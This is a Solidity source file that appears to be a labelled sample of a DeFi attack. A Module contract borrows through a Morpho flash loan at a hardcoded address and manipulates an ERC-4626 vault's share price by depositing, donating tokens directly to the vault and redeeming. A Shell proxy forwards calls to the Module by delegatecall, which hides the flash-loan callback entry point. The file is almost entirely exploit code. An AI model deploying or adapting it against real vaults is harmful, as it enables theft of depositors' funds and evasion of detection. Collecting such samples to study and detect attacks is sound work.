// SPDX-License-Identifier: BSD-3-Clause
// provider: morpho
// family: vault_share
// contract: Shell
// shows: entry callback address
// since: 0.6
// A shell that delegates all it gets to a module made in its constructor; the module asks and answers Morpho.
pragma solidity >=0.6.2 <0.9.0;

interface IMorpho { function flashLoan(address token, uint256 assets, bytes calldata data) external; }
interface I4626 { function deposit(uint256, address) external returns (uint256); function redeem(uint256, address, address) external returns (uint256); function totalAssets() external view returns (uint256); }
interface IErc { function approve(address, uint256) external returns (bool); function transfer(address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); }

contract Module {
	event Done(uint256 gain);
	function fire(address vault, address token, uint256 amount) external {
		IMorpho(0xBBBBBbbBBb9cC5e90e3b3Af64bdAF62C37EEFFCb).flashLoan(token, amount, abi.encode(vault, token));
		emit Done(IErc(token).balanceOf(address(this)));
	}
	function onMorphoFlashLoan(uint256 assets, bytes calldata data) external {
		(address vault, address token) = abi.decode(data, (address, address));
		IErc(token).approve(vault, assets);
		uint256 shares = I4626(vault).deposit(assets / 2, address(this));
		IErc(token).transfer(vault, assets / 4);
		I4626(vault).redeem(shares, address(this), address(this));
		IErc(token).approve(msg.sender, assets);
	}
}

contract Shell {
	address private logic;
	constructor() public { logic = address(new Module()); }
	fallback() external payable {
		address l = logic;
		assembly {
			calldatacopy(0, 0, calldatasize())
			let ok := delegatecall(gas(), l, 0, calldatasize(), 0, 0)
			returndatacopy(0, 0, returndatasize())
			switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
		}
	}
}
